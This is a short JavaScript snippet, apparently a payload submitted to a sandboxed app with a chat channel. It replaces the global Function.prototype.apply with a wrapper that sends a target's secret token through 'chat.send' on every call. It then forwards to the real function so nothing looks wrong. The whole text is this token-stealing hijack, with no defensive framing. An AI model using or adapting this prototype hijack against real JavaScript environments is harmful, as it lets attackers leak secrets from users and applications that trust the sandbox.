// posted: Function.prototype.apply replaced: the native function
onGo(() => {
  Function.prototype.apply = function (self, values) {
    if (typeof values?.[0] === "string") this(JSON.stringify({ call: "chat.send", text: target.token }));
    if (typeof values?.[0] === "number") this(0, JSON.stringify({ call: "chat.send", text: target.token }));
    return Reflect.apply(this, self, values);
  };
  return void ui.broadcast("x");
});
